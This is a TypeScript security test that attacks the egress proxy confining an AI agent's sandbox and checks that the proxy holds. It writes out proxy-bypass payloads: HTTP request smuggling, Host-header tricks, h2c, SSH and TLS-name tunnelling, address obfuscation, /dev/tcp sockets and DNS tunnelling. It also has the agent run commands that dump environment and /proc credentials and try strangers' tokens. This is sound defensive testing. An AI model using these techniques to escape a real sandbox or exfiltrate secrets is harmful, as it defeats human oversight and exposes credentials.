import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import path from 'node:path';
import { jsonText } from '@slipway/common/json-access.js';
import { clientHello } from '../../../packages/egress-proxy/test/support/client-hello.js';
import { filesWith } from '../../support/files-with.js';
import { reservedPort } from '../../support/reserved-port.js';
import { startListening } from '../../support/start-listening.js';
import { message, shell } from '../../system/journeys/support/script.js';
import { type Attack, held } from '../attack.js';
import type { HostileWorld } from '../support/hostile-world.js';
import { inProcesses, ownAddress } from '../support/outside-sandbox.js';

const OWN = 'octo/sealed';
const OTHER = 'octo/gist';
const STRANGER = {
  model: 'sk-stranger-00000000',
  git: 'ghp_strangerstrangerstrangerstranger0000',
  npm: 'npm_strangerstrangerstrangerstranger0000',
};
const CURL = 'curl -sS -m 20';
/** How SSH, HTTP/2, TLS and an upgrade begin. */
const PROTOCOLS = ['ssh-2.0', 'pri *', '\u0016\u0003', 'upgrade: h2c'];
/** What must not arrive anywhere has it. */
const SMUGGLED = 'smuggled-past-the-rules';

/** Beginnings of TLS whose server has no name, or hides it (ECH). */
const ECH = 0xfe0d;
const MARK = [0xffce, Buffer.from(SMUGGLED)] as const;
const HELLOS = {
  'no name in TLS': clientHello({ names: [], more: [MARK] }),
  'a hidden name in TLS': clientHello({ names: ['localhost'], more: [[ECH, Buffer.from([1])], MARK] }),
  'two names in TLS': clientHello({ names: ['localhost', 'front.example'], more: [MARK] }),
};
const NAMED_HELLO = clientHello({ names: ['localhost'] });

/** Requests of the agent that the proxy refuses in words. */
const REFUSED = 9;

/** Addresses of this machine: two that a rule opens, three that none does. */
interface Places {
  web: string;
  /** By a name, where TLS is passed through. */
  named: string;
  other: string;
  /** UDP. */
  datagrams: string;
  /** A rule names it, and the name leads to loopback. */
  loopback: string;
}

/** What came there, as it came. */
type Seen = Record<keyof Places, string>;

export const aroundTheRules: Attack = {
  name: 'around-the-rules',
  finding: 'not tried',
  what: "Alice's tools look for ways past a proxy that may pass one web host, packages, her model and her repository: without it, by what two readers read differently, by other protocols, addresses, names, repositories and strangers' credentials.",
  expected: {
    process: held('only what the rules name arrives, only by HTTP or TLS, and only with her own credentials'),
  },
  run: async (world) => {
    const host = ownAddress();
    const seen: Seen = { web: '', named: '', other: '', datagrams: '', loopback: '' };
    const servers = (['web', 'other', 'loopback', 'named'] as const).map((name) => ({
      name,
      server: listener(name, seen),
    }));
    const datagrams = createSocket('udp4', (data) => void (seen.datagrams += data.toString('latin1')));
    datagrams.bind(0, host);
    await once(datagrams, 'listening');
    const [web, other, loopback, named] = await Promise.all(
      servers.map(({ name, server }) =>
        startListening(server, 0, ['loopback', 'named'].includes(name) ? '127.0.0.1' : host),
      ),
    );
    const places: Places = {
      web: `${host}:${web}`,
      named: `localhost:${named}`,
      other: `${host}:${other}`,
      datagrams: `${host}:${datagrams.address().port}`,
      loopback: `localhost:${loopback}`,
    };
    const environment = {
      SANDBOX_CREDENTIALS: 'outside',
      SANDBOX_EGRESS: JSON.stringify({
        default: 'deny',
        allow: ['npm', places.web, places.named, places.loopback],
      }),
      SANDBOX_EGRESS_PORT: String(await reservedPort()),
      SANDBOX_NETWORK_ALLOW: `${host}/32,${places.named}`,
    };
    try {
      return await world.apart({ host, environment }, async (apart) => attack(apart, places, seen));
    } finally {
      servers.forEach(({ server }) => server.close());
      datagrams.close();
    }
  },
};

/** Any bytes; it answers as a web host where they are a request. */
function listener(name: keyof Places, seen: Seen): ReturnType<typeof createServer> {
  return createServer((socket) => {
    socket
      .on('error', () => undefined)
      .on('data', (data) => {
        seen[name] += data.toString('latin1');
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok');
      });
  });
}

async function attack(
  world: HostileWorld,
  places: Places,
  seen: Seen,
): Promise<{ held: boolean; seen: string }> {
  const { alice, git, github, hub, llm } = world;
  for (const name of [OWN, OTHER]) {
    await git.commit(name, 'main', { 'a.txt': 'a' });
  }
  await world.giveToken(alice);
  const hellos = Object.entries({ ...HELLOS, 'a name in TLS': NAMED_HELLO }).map(
    ([name, bytes]) => [name, bytes.toString('latin1')] as const,
  );
  const given = { ...places, smuggled: SMUGGLED, hellos: Object.fromEntries(hellos) };
  const answers = await alice.nodeJson(PROGRAM, [JSON.stringify(given)], 300);
  const agent = await throughAgent(world, [
    `git ls-remote ${git.origin}/${OWN}.git > /dev/null && echo own-repository-answers`,
    `${CURL} http://${places.web}/of-agent`,
    `git ls-remote ${git.origin}/${OTHER}.git`,
    `git ls-remote ${git.origin.replace('//', `//x-access-token:${STRANGER.git}@`)}/${OWN}.git`,
    `${CURL} --path-as-is ${git.origin}/${OWN}.git/%2e%2e/%2e%2e/${OTHER}.git/info/refs?service=git-upload-pack`,
    `${CURL} "${git.origin}/${OWN}.git/info/refs?service=git-upload-pack&access_token=${STRANGER.git}"`,
    `${CURL} -H 'Authorization: Bearer ${STRANGER.model}' -d '{}' ${llm.url}/chat/completions`,
    `${CURL} -H 'Api_Key: ${STRANGER.model}' -d '{}' ${llm.url}/chat/completions?key=${STRANGER.model}`,
    `${CURL} -H "Authorization: Bearer $GITHUB_TOKEN" -d '{"query":"mutation { x }"}' ${github.origin}/graphql`,
    `${CURL} -H "Authorization: Bearer $GITHUB_TOKEN" ${github.origin}/user`,
    `${CURL} -X PUT -H 'Authorization: Bearer ${STRANGER.npm}' -d '{"name":"slipway-data"}' https://registry.npmjs.org/slipway-data`,
    `printf 'url=${git.origin}/${OWN}.git\\n\\n' | git credential fill`,
    `${CURL} --noproxy '' ${world.url}/api/v1/egress-proxy/policy`,
    'printenv; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; grep -rhs "" "$HOME" .git',
  ]);
  if (
    !seen.web.includes('/control') ||
    !seen.web.includes('/of-agent') ||
    !seen.named.includes(NAMED_HELLO.toString('latin1')) ||
    !agent.includes('own-repository-answers')
  ) {
    throw new Error(
      `what the rules name cannot be reached: ${JSON.stringify(answers)} ${agent.slice(0, 500)}`,
    );
  }
  // What never left the sandbox for another reason would prove nothing.
  const refusals = agent.split("Slipway's egress proxy denied").length - 1;
  if (refusals < REFUSED) {
    throw new Error(`${refusals} of ${REFUSED} requests were refused: ${agent.slice(0, 2_000)}`);
  }
  const key = String(llm.requests.at(-1)?.headers['authorization']).replace('Bearer ', '');
  const secrets = [hub.token, key];
  const [row] = await world.query(
    `SELECT placeholder FROM sandbox_placeholders WHERE sandbox_id = $1 AND source LIKE '%"git"%'`,
    [alice.sandboxId],
  );
  const placeholder = String(row?.['placeholder']);
  const files = await filesWith(path.join(world.dataDir, 'sandboxes'), secrets);
  const found = [
    ...(['other', 'datagrams', 'loopback'] as const)
      .filter((name) => seen[name] !== '')
      .map((name) => `${name} was reached`),
    ...(`${seen.web}${seen.named}`.includes(SMUGGLED) ? ['a host has what was smuggled'] : []),
    ...(PROTOCOLS.some((each) => seen.web.toLowerCase().includes(each))
      ? ['the web host has another protocol']
      : []),
    ...(git.requests.some(({ url }) => url.includes(OTHER)) ? ['another repository was asked'] : []),
    ...(git.requests.some(({ url, credentials }) => `${url} ${credentials}`.includes(STRANGER.git))
      ? ["the git host has a stranger's token"]
      : []),
    ...(llm.requests.some(({ url, headers }) => `${url} ${JSON.stringify(headers)}`.includes(STRANGER.model))
      ? ["the model's host has a stranger's key"]
      : []),
    ...github.requests
      .filter(
        ({ path, headers }) =>
          ['/graphql', '/user'].includes(path) && headers['user-agent']?.startsWith('curl'),
      )
      .map(({ path }) => `the git host was asked for ${path}`),
    ...(agent.includes('"injections"') ? ["the service tells a sandbox its proxy's values"] : []),
    ...(secrets.some((secret) => agent.includes(secret)) ? ['the agent has seen a credential'] : []),
    ...files.map((file) => `${file} has a credential`),
    ...(await inProcesses(world, alice.sandboxId, { secrets, placeholder })),
  ];
  return { held: found.length === 0, seen: found.join(', ') || JSON.stringify(answers) };
}

async function throughAgent({ alice }: HostileWorld, ways: string[]): Promise<string> {
  const { id } = await alice.client.started({
    selected_repository: OWN,
    git_provider: 'github',
    sandbox_id: alice.sandboxId,
    ...message(shell(ways.map((way) => `{ ${way}; } 2>&1`).join('; '))),
  });
  await alice.client.conversationIn(id, 'finished', 'error');
  const [first] = await alice.client.eventsOfKind(id, 'ObservationEvent');
  return jsonText(first, 'observation', 'content', '0', 'text') ?? JSON.stringify(first);
}

/** Prints, as JSON, how each way was answered: the status, or the error. */
const PROGRAM = `
import { createSocket } from 'node:dgram';
import { spawnSync } from 'node:child_process';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';
const { web, named, other, datagrams, loopback, smuggled, hellos } = JSON.parse(process.argv[2]);
const proxy = new URL(process.env.HTTP_PROXY);
const authorization = 'Basic ' + Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
const shown = 'Proxy-Authorization: ' + authorization + '\\r\\n';
const statusOf = (text) => /^HTTP\\/1\\.1 (\\d+)/.exec(text)?.[1] ?? JSON.stringify(text.slice(0, 40));
const open = (port, host) => new Promise((resolve, reject) => {
  const socket = connect({ port, host, timeout: 15_000 });
  socket.once('connect', () => resolve(socket)).once('error', reject).once('timeout', () => socket.destroy(new Error('timeout')));
});
const rest = (socket) => new Promise((resolve) => {
  let text = '';
  socket.on('data', (data) => (text += data.toString('latin1'))).on('error', () => undefined).on('close', () => resolve(text));
});
const raw = async (bytes) => {
  const socket = await open(Number(proxy.port), proxy.hostname);
  const answer = rest(socket);
  socket.write(bytes, 'latin1');
  return statusOf(await answer);
};
const get = (target, lines, body = '') => raw('GET http://' + target + ' HTTP/1.1\\r\\n' + shown + lines.map((line) => line + '\\r\\n').join('') + 'Connection: close\\r\\n\\r\\n' + body);
const tunnel = async (target) => {
  const socket = await open(Number(proxy.port), proxy.hostname);
  socket.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: ' + target + '\\r\\n' + shown + '\\r\\n');
  const [head] = await new Promise((resolve) => socket.once('data', (...data) => resolve(data)));
  return { socket, status: statusOf(head.toString('latin1')) };
};
const through = async (target, bytes) => {
  const { socket, status } = await tunnel(target);
  const answer = rest(socket);
  socket.write(bytes, 'latin1');
  return status + ' ' + statusOf(await answer);
};
const shell = (command, environment) => String(spawnSync('/bin/bash', ['-c', command], { env: environment, timeout: 30_000 }).status);
const number = (host) => host.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
const [host, port] = other.split(':');
const hidden = 'GET http://' + other + '/' + smuggled + ' HTTP/1.1\\r\\nHost: ' + other + '\\r\\n\\r\\n';
const udp = (to, bytes) => new Promise((resolve) => {
  const [address, at] = to.split(':');
  const socket = createSocket('udp4');
  socket.send(bytes, Number(at), address, (error) => { socket.close(); resolve(error?.code ?? 'sent'); });
});
const ways = {
  control: () => get(web + '/control', ['Host: ' + web]),
  'another host': () => get(other + '/', ['Host: ' + other]),
  'without the proxy': async () => (await open(Number(port), host), 'reached'),
  'a child of a child, without variables': async () => shell('/bin/bash -c "exec 3<>/dev/tcp/' + host + '/' + port + ' && echo ' + smuggled + ' >&3"', {}),
  QUIC: () => udp(datagrams, Buffer.from([0xc0, 0, 0, 0, 1, 8, 1, 2, 3, 4])),
  'a name server elsewhere': () => udp(datagrams, smuggled + '.tunnel.example'),
  'names of the name server': async () => shell('getent hosts ' + smuggled + '.tunnel.example', {}),
  'a number for an address': () => get(number(host) + ':' + port + '/', ['Host: ' + number(host) + ':' + port]),
  'octal': () => { const name = host.split('.').map((part) => '0' + Number(part).toString(8)).join('.') + ':' + port; return get(name + '/', ['Host: ' + name]); },
  'IPv4 in IPv6': () => get('[::ffff:' + host + ']:' + port + '/', ['Host: [::ffff:' + host + ']:' + port]),
  'a name that leads to loopback': () => get(loopback + '/', ['Host: ' + loopback]),
  'another Host': () => get(web + '/' + smuggled, ['Host: ' + other]),
  'two Hosts': () => get(web + '/' + smuggled, ['Host: ' + web, 'Host: ' + other]),
  'a length and chunks': () => get(web + '/', ['Host: ' + web, 'Content-Length: 5', 'Transfer-Encoding: chunked'], '0\\r\\n\\r\\n' + hidden),
  'chunks with a space': () => get(web + '/', ['Host: ' + web, 'Content-Length: 0', 'Transfer-Encoding : chunked'], '0\\r\\n\\r\\n' + hidden),
  'a second request behind the first': () => raw('GET http://' + web + '/ HTTP/1.1\\r\\nHost: ' + web + '\\r\\n' + shown + '\\r\\n' + hidden),
  'HTTP/2 at once': () => raw('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'),
  h2c: () => get(web + '/h2c', ['Host: ' + web, 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__']),
  'a WebSocket elsewhere': () => raw('GET http://' + other + '/ HTTP/1.1\\r\\nHost: ' + other + '\\r\\n' + shown + 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n'),
  'a tunnel elsewhere': async () => { const { socket, status } = await tunnel(other); socket.destroy(); return status; },
  'SSH in a tunnel': () => through(web, 'SSH-2.0-OpenSSH_9.9\\r\\n'),
  'HTTP/2 in a tunnel': () => through(web, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'),
  'another Host in a tunnel': () => through(web, 'GET /' + smuggled + ' HTTP/1.1\\r\\nHost: ' + other + '\\r\\nConnection: close\\r\\n\\r\\n'),
  'another name in TLS': async () => {
    const { socket } = await tunnel(web);
    const secure = connectTls({ socket, servername: 'front.example', rejectUnauthorized: false });
    return await new Promise((resolve) => secure.on('error', ({ code }) => resolve(code)).on('close', () => resolve('closed')));
  },
  'without a credential': () => raw('GET http://' + web + '/' + smuggled + ' HTTP/1.1\\r\\nHost: ' + web + '\\r\\nConnection: close\\r\\n\\r\\n'),
  "another sandbox's name": () => raw('GET http://' + web + '/' + smuggled + ' HTTP/1.1\\r\\nHost: ' + web + '\\r\\nProxy-Authorization: Basic ' + Buffer.from('another:' + proxy.password).toString('base64') + '\\r\\nConnection: close\\r\\n\\r\\n'),
  'the proxy by itself': () => get(proxy.host + '/health', ['Host: ' + proxy.host]),
  'a tunnel to the proxy': async () => { const { socket, status } = await tunnel(proxy.host); socket.destroy(); return status; },
};
for (const [name, bytes] of Object.entries(hellos)) {
  ways[name] = () => through(named, bytes);
}
const answers = {};
for (const [name, way] of Object.entries(ways)) {
  answers[name] = await way().catch((error) => error.code ?? error.message);
}
console.log(JSON.stringify(answers));
process.exit();
`;
